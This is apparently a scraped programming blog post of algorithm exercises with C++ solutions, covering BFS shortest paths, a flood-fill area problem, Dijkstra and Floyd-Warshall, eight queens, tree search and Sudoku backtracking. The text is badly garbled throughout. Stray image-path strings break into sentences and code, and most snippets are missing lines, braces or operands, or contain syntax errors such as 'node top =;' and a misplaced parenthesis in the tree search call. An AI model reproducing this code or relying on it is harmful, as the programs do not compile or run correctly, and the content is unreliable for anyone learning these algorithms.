Problem 14 (Shortest path)

Given a set of cities' paths represented as a two dimensional array grid where grid[i][j] = 1 iff there exists a path between city i to city j. Given two cities src and dst, find the shortest path to go from src to dst. If there isno such path return -1.

Solution // In this problem i will show you how to use BFS to get shortest path

#define N 10 // For the example

int prev[N];
int vis[N];

int find_shortest_path(int paths[][N], int src, int dst) {
    memset(vis, 0, sizeof vis);
    memset(prev, -1, sizeof prev);
    queue<int> q;
    q.push(src); // First city
    while(!q.empty()) {
        int city = q.front();

        if(city == dst) break; // We arrived
        for(int i = 0; i < N; i++) {
            if(paths[city][i] && !vis[i]) {
                prev[i] = city;
                vis[i] = 1;
    if(prev[dst] == -1) return -1;
    int city = dst, res = 0;
    while(prev[city] != -1) { // Exercise: print the path
        city = prev[city];
        res ++;
    return res;

Problem 15 (GrafixMask)

SRM 211 DIV-1 Medium

In one mode of the grafix software package, the user blocks off portions of a masking layer using opaque rectangles. The bitmap used as the masking layer is 400 pixels tall and 600 pixels wide. Once the rectangles have been blocked off, the user can perform painting actions through the remaining areas of the masking layer, known as holes. To be precise, each hole is amaximal collection of contiguous pixels that are not covered by any of the opaque rectangles. Two pixels are contiguous if they share an edge, andcontiguity is transitive.

You are given a vector<string> named rectangles, the elements of which specify the rectangles that have been blocked off in the masking layer. Each String in rectangles consists of four integers separated by single spaces, with no additional spaces in the string. The first two integers are the window coordinates of the top left pixel in the given rectangle, and the last two integers are the window coordinates of its bottom right pixel. The window coordinates of a pixel are a pair of integers specifying the row number and column number of the pixel, in that order. Rows are numbered from top to bottom, starting with 0 and ending with 399. Columns are numbered from left to right, starting with 0 and ending with 599. Every pixel within and along the border of the rectangle defined by these opposing corners is blocked off.Return a vector<int> containing the area, in pixels, of every hole in the resulting masking area, sorted from smallest area to greatest.


#define tall 400
#define width 600

bool Grid[tall][width]; // Represent the graph as a matrix
int nx[] = {0,0,1,-1};  // Sentinels
int ny[] = {-1,1,0,0}; // Sentinelsstruct node {            // Graph node
    int x, y;
    node(int x,int y){
        this->x = x;
        this->y = y;

int Fill(int x,int y)
    stack<node> s; // use DFS

    int result = 0;
        node top =;

        if(Grid[top.x][top.y]) continue;

        Grid[top.x][top.y] = true;


        for(int f= 0;f<4;f++)
            int newX = top.x+nx[f];
            int newY = top.y+ny[f];
            if(!(newX<0 || newX >= tall || newY < 0 || newY >= width || Grid[newX][newY]))
                     s.push(node(newX, newY));

    return result;

class grafixMask
    vector <int> sortedAreas(vector <string> rect)
        vector<int> answer;
        stringstream ss;
        int x,y,z,w;
        int i;
        for(i = 0;i<rect.size();i++)
            ss << rect[i];
            ss >> x >> y >> z >> w;for(int j = x;j<=z;j++)
            for(int s= y; s<=w; s++)
                Grid[j][s] = true;
        for(i = 0; i<tall; i++)
        for(int j = 0; j<width; j++)


        return answer;

Problem 16 (Shortest path)

Same as problem 14 but path[i][j] = c, that means path from city i to city j equals c KM. find the shortest path from city src, to city dst. In this problem we won't be able to use BFS. Why?

Dijkstra Solution

#define N 5

int graph[N][N];
bool vis[N];

struct node {
    int indx;int cst;

bool operator < (const node& n1, const node& n2) {
    return n1.cst > n2.cst;

int dijkstra(int src, int dst) {
    priority_queue<node> pq;
    pq.push(node(src, 0));
    while(!pq.empty()) {
        node n =;
        if(vis[n.indx]) continue;
        else if(n.indx == dst)
                   return n.cst;

        vis[n.indx] = true;
        for(int i = 0; i < N; i++)
            if(graph[n.indx][i] != INT_MAX)
                pq.push(node(i, n.cst+graph[n.indx][i]));
    return -1;Floyd Warshall  Solution

int floyd_warshall()
    int i, j, k;
    for(k = 0; k < N; k++)
    for(i = 0; i < N; i++)
    for(j = 0; j < N; j++)
    if(graph[i][k] != INT_MAX && graph[k][j] != INT_MAX)
    graph[i][j] = min(graph[i][j], graph[i][k]+graph[k][j]);

    cout << graph[0][3] << endl;

In the next post i will show you examples to Maximum flow and Minimum Cut problems.

Wednesday, April 18, 2012

Problem solving techniques (Exampleproblems) (Cont.)

Time for backtracking is now. In this post i will show you how to use backtracking solving a specific type of problems. To know about backtracking please revise previous posts.

Problem 10 (8 Queens problem)

 The eight queens puzzle is the problem of placing eight chess queens on an 8×8 chessboard so that no two queens attack each other. Thus, a solution requires that no two queens share the same row, column, or diagonal.

 * rows: Each cell represents the col number that will contain a queen in this row
 * curRow: The current row to be filled
int cnt = 0;
void place_8_queens(int rows[], int curRow) {
    if(curRow >= 8) {
        for(int i = 0; i < 8; i++) cout << rows[i] << " ";
        cout << endl;
    for(int i = 0; i < 8; i++) {
        bool valid = true;
        for(int j = 0; j < curRow; j++)
            if(rows[j] == i || (i == rows[j]+(curRow-j)) || (i == rows[j]-(curRow-j)))
                valid = false;
        if(valid) {
            rows[curRow] = i;
            place_8_queens(rows, curRow+1);

int main() {
    int rows[8];
    place_8_queens(rows, 0);cout << "There are " cnt << " valid placement." << endl;

Problem 11 (Tree Find)

In this problem given a tree whith the following definition:

struct node {
    int val;                    // Current node value
    vector<int> childs; // Contains the indices of the cilds nodes

vector<node> tree;   // Tree[0] is the tree root

and an element, find this element.


This solution is a DFS (Depth first search) where at each time visiting a node, check if it holds the element return true, else find it in its childs.

bool search_tree(node cur, int elem) {
    if(cur.val == elem) return true;for(int i = 0; i < cur.childs.size(); i++)  // Search all childs of current node
        if(search_tree(tree[cur.childs[i]]), elem) return true; // Found it, return true
    return false; // not found neither in this node nor in its child, then backtrack

int main() {search_tree(tree[0], -21);

Problem 12 (Sudoku)

Sudoku puzzles consists of a partially completed row-column grid of cells partitioned into N regions or zones each of size N cells, to be filled in using a prescribed set of N distinct symbols (typically the numbers {1, ..., N}), so that each row, column and region contains exactly one of each element of the set. The puzzle can be solved using a variety of algorithms. Here is the backtracking way to solve it:

#define N    3 // For learning purposes

bool check_row(int grid[][N], int row, int col, int a) {
    for(int i = 0; i < col; i++)
        if(grid[row][i] == a) return false;
    return true;

bool check_col(int grid[][N], int row, int col, int a) {
    for(int i = 0; i < row; i++)
        if(grid[i][col] == a) return false;
    return true;

void small_sudoku(int grid[][N], int i, int j) {
    vector<int> allowed_nums;
    int a;
    for(a = 1; a <= N; a++) {
        if(check_row(grid, i, j, a) && check_col(grid, i, j, a)) {
            grid[i][j] = a;
            if(j < N-1) small_sodoku(grid, i, j+1);else if(j == N-1 && i < N-1) small_sodoku(grid, i+1, 0);
            else {
                cout << "Found placement" << endl;
                for(int r = 0; r < N; r++) {
                    for(int c = 0; c < N; c++)
                        cout << grid[r][c] << " ";
                    cout <<endl;

In the next post i will showyou how to solve graph related problems.